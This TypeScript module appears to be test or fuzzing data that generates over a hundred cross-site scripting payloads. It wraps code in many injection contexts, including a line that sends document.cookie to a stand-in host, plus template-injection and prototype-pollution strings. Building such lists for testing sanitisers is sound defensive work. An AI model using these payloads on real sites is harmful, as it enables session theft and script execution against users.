// Text that runs where a page takes it for markup, for a URL, for a style or for code. Ways in times ways to run.

const CODE = "document.title='owned'";

const CONTEXTS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg onload="${code}">`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror='${code}'//`,
  (code) => `<img/src='x'/onerror="${code}">`,
  (code) => `<body onload="${code}">`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<audio src=x onerror="${code}">`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<math><a xlink:href="javascript:${code}">x</a></math>`,
  (code) => `<base href="javascript:${code}//">`,
  (code) => `<link rel=stylesheet href="javascript:${code}">`,
  (code) => `<meta http-equiv=refresh content="0;javascript:${code}">`,
  (code) => `<style>@import "javascript:${code}";</style>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<!--><script>${code}</script>-->`,
  (code) => `<![CDATA[<script>${code}</script>]]>`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => "${" + code + "}",
  (code) => `";${code}//`,
  (code) => `';${code}//`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
];

const CODES = [CODE, "eval(name)", "fetch('https://example.com/'+document.cookie)"];

/** More than a hundred, each different. */
export const scriptPayloads: readonly string[] = CODES.flatMap((code) =>
  CONTEXTS.map((context) => context(code)),
);

/** Short enough for the name of a database: 64 characters. */
export const shortPayloads: readonly string[] = CONTEXTS.map((context) => context("alert(1)"))
  .filter((payload) => payload.length <= 64)
  .concat(["<b>x</b>", "<img src=x>", "__proto__", "constructor"]);
